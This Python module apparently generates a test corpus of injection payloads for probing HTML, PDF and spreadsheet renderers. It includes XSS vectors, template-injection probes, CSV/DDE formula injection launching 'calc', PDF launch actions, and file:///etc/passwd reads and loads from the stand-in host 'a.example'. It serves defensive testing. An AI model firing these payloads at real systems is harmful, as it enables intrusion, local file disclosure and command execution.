"""Five hundred texts that try to run, to load or to lead somewhere, built up from families.

`HOST` stands for an address elsewhere; a test that listens puts its own in its place.
"""

# ruff: noqa: E501 - a payload to a line is no easier to read

from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

HOST = "a.example"

SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt src=//a.example/x>", "</script><script>x()</script>", "<img src=x onerror=x()>",
    "<svg onload=x()>", "<svg><script>x()</script></svg>", "<svg><a xlink:href='javascript:x()'>a</a></svg>",
    "<body onload=x()>", "<iframe src=javascript:x()>", "<iframe srcdoc='<script>x()</script>'>", "<object data=x.swf>",
    "<embed src=x>", "<math><mi//xlink:href='javascript:x()'>", "<base href=//a.example/>", "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//a.example>", "<style>*{background:url(//a.example)}</style>", "<form action=//a.example>",
    "<input autofocus onfocus=x()>", "<details open ontoggle=x()>", "<video><source onerror=x()></video>", "<marquee onstart=x()>",
    "<template><script>x()</script></template>", "<noscript><p title='</noscript><img src=x onerror=x()>'>", "<a href=javascript:x()>",
    '"><script>x()</script>', "'><img src=x onerror=x()>", '" onmouseover="x()', "' autofocus onfocus='x()", "`onmouseover=x()`",
    "--><script>x()</script>", "<!--<script>", "]]><script>x()</script>", "<![CDATA[<script>x()]]>", "</textarea><script>x()</script>",
    "</title><script>x()</script>", "</style><script>x()</script>", "<<script>x()//<</script>", "<scr<script>ipt>x()", "<plaintext>",
    "&lt;script&gt;x()&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E", "+ADw-script+AD4-",
    "\uff1cscript\uff1e", "<\u200bscript>", "<img src=data:text/html,x>", "<a href=data:text/html;base64,PHNjcmlwdD4=>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ 7*'7' }}", "{%for x in range(9)%}x{%endfor%}", "{{config}}", "{{request.environ}}", "{#x#}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{''.__class__.__mro__}}", "{{url_for.__globals__}}", "%(name)s", "{0.__class__}", "$(id)", "`id`", "|id;",
    "{{lipsum|attr('x')}}", "{% include '/etc/passwd' %}", "{{cycler.__init__}}", "*{7*7}",
]  # fmt: skip
STYLES = [
    "expression(x())", "url(javascript:x())", "@import '//a.example'", "}*{display:none}", "behavior:url(x)", "</style>",
    "background:url(//a.example/x)", "position:fixed;top:0", "\\3c script", "/*", "content:attr(value)", "-moz-binding:url(x)",
]  # fmt: skip
SCHEMES = [
    "javascript:x()", "JaVaScRiPt:x()", "java\tscript:x()", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "//a.example",
    "\\\\a.example", "https://a.example@b.example", "blob:x", "view-source:x", "ws://a.example",
]  # fmt: skip
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/c calc'!A1",
    "\t=1",
    "=HYPERLINK(1)",
    ";=1",
    "%0A=1",
    "=IMPORTXML(1)",
]
PDF = [
    "<</S/JavaScript/JS(x())>>", "<</S/Launch/F(calc.exe)>>", "<</S/URI/URI(http://a.example/)>>", "<</Type/Action/S/SubmitForm>>",
    "endstream endobj", "1 0 obj<</OpenAction 2 0 R>>endobj", "trailer<</Root 1 0 R>>", "%PDF-1.7", "%%EOF", "(x) Tj ET Q", "BT /F1 9 Tf",
    ") Tj (", "\\) Tj \\(", "<</EmbeddedFile 1 0 R>>", "<</AA<</O 1 0 R>>>>", "xref 0 1", "startxref 0", "<?xpacket begin=?>", "/JS (x())",
]  # fmt: skip
WEASY = [
    "<link rel=attachment href=file:///etc/passwd>", "<a rel=attachment href=file:///etc/passwd>x</a>", "<img src=file:///etc/passwd>",
    "<link rel=stylesheet href=file:///etc/passwd>", "<svg><image href=http://a.example/x /></svg>", "<object data=file:///etc/passwd>",
    "<style>@import url(http://a.example/x)</style>", "<style>@font-face{src:url(http://a.example/x)}</style>",
    "<style>@page{@top-left{content:url(http://a.example/x)}}</style>", "<p style='content:url(http://a.example/x)'>",
    "<p style=\"string-set:running 'x'\">", "<p style='bookmark-label:attr(x)'>", "<p style='position:running(x)'>", "<p class=running>x</p>",
    "<a href='#x' style='content:target-text(url(#x))'>", "<meta name=author content=x>", "<title>x</title>", "<html lang=xx>",
    "<embed src=http://a.example/x.svg>", "<iframe src=http://a.example/x>", "<input name=x value=x>", "<form><button formaction=//a.example>",
]  # fmt: skip


def events() -> Iterator[str]:
    """Every element that can be had with every attribute that runs something."""
    tags = ["a", "b", "p", "div", "img src=x", "svg", "input", "video src=x", "details open", "body", "x-y", "select"]
    names = ["onclick", "onload", "onerror", "onfocus", "onpointerenter", "onanimationstart", "onwheel", "ONTOGGLE",
             "onbegin", "oninput"]  # fmt: skip
    yield from (f"<{tag} {name}=x()>" for tag, name in product(tags, names))


def leads() -> Iterator[str]:
    """Every way to lead or load elsewhere, with every scheme."""
    ways = ["<a href='{}'>", "<img src='{}'>", "<form action='{}'>", "<svg><use href='{}'/></svg>", "<iframe src='{}'>",
            "<link rel=icon href='{}'>", "[x]({})", "![x]({})", "url({})", "<p style='background:url({})'>",
            "<track src='{}'>", "<q cite='{}'>"]  # fmt: skip
    schemes = ["javascript:x()", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "//a.example/x", "http://a.example/x",
               "ftp://a.example/x", "\x01javascript:x()"]  # fmt: skip
    yield from (way.format(scheme) for way, scheme in product(ways, schemes))


def breakouts() -> Iterator[str]:
    """Out of every place that a text may stand in, to something live."""
    ends = [
        "\"'>",
        "</p>",
        "</td></table>",
        "</blockquote>",
        "</option></select>",
        "--!>",
        "*/",
        "\\\"'",
        "';",
        "{{",
        "\n\n",
    ]
    starts = [
        "<script>x()</script>",
        "<img src=x onerror=x()>",
        "<svg/onload=x()>",
        "<iframe src=//a.example>",
        "{{7*7}}",
    ]
    yield from (end + start for end, start in product(ends, starts))


SPELLINGS: list[Callable[[str], str]] = [
    str.upper,
    quote,
    lambda text: quote(quote(text)),
    lambda text: "".join(f"&#{ord(each)};" for each in text),
    lambda text: "".join(f"&#x{ord(each):x}" for each in text),
    lambda text: "".join(f"\\x{ord(each):02x}" for each in text),
    lambda text: "".join(f"\\u{ord(each):04x}" for each in text),
    lambda text: "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text),
    "\u200b".join,
    lambda text: f"\u202e{text[::-1]}\u202c",
    lambda text: text.replace("<", "<\x0c").replace(":", "\t:"),
]
"""The same in other letters, which no page may turn back."""


def spelt() -> Iterator[str]:
    seeds = ["<script>x()</script>", "<img src=x onerror=x()>", "javascript:x()", "{{7*7}}", "=1+1", "<svg onload=x()>",
             "url(//a.example)", "${7*7}"]  # fmt: skip
    yield from (spelling(seed) for spelling, seed in product(SPELLINGS, seeds))


def tables() -> Iterator[str]:
    """What a spreadsheet would count, after each sign that begins a formula."""
    yield from (
        f"{sign}{call}"
        for sign, call in product("=+-@", ['WEBSERVICE("http://a.example")', 'DDE("cmd";"/C calc";"x")'])
    )


FAMILIES = [
    SCRIPTS,
    TEMPLATES,
    STYLES,
    SCHEMES,
    FORMULAS,
    PDF,
    WEASY,
    events(),
    leads(),
    breakouts(),
    spelt(),
    tables(),
]
PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES for payload in family))


def lines(longest: int) -> list[str]:
    """The payloads that are one line, as many side by side as fit a field of so many characters."""
    return _packed(
        [each.strip() for each in PAYLOADS if "\n" not in each and len(each.strip()) <= longest], longest, " "
    )


def heaps(longest: int) -> list[str]:
    """All of them, a line each, in texts of so many characters at most."""
    return _packed(PAYLOADS, longest, "\n")


def _packed(pieces: list[str], longest: int, between: str) -> list[str]:
    packed = [""]
    for piece in pieces:
        joined = between.join(filter(None, (packed[-1], piece)))
        if len(joined) > longest:
            packed.append(piece)
        else:
            packed[-1] = joined
    return packed
